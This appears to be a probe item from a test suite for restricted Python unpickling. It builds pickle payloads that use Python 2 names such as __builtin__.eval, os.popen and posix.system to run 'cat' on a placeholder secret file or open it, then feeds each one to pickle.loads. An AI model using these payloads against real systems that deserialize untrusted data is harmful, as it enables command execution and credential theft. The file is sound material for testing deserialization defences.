# technique: functions that run text or open files, by the names that pickle maps from Python 2
# goal: read-secret
# policy: imports pickle = *
# source: own analysis: _compat_pickle.NAME_MAPPING
import pickle

for module, name, argument in (
        ('__builtin__', 'eval', 'open("@SECRET@").read()'),
        ('builtins', 'eval', 'open("@SECRET@").read()'),
        ('__builtin__', 'file', '@SECRET@'), ('__builtin__', 'open', '@SECRET@'),
        ('builtins', 'open', '@SECRET@'), ('_codecs', 'open', '@SECRET@'),
        ('commands', 'getoutput', 'cat @SECRET@'),
        ('os', 'popen', 'cat @SECRET@'), ('posix', 'system', 'cat @SECRET@'),
        ('os', 'getcwdu', ''), ('__builtin__', '__import__', 'os'),
        ('builtins', 'exec', 'print(open("@SECRET@").read())'),
        ('_codecs', 'lookup', 'os'), ('codecs', 'open', '@SECRET@')):
    for protocol in b'', b'\x80\x02', b'\x80\x04':
        text = b'c%s\n%s\n(V%s\ntR.' % (module.encode(), name.encode(),
                                     argument.encode())
        try:
            result = pickle.loads(protocol + text)
            print(result.read() if hasattr(result, 'read') else result)
        except Exception as error:
            print(type(error).__name__)
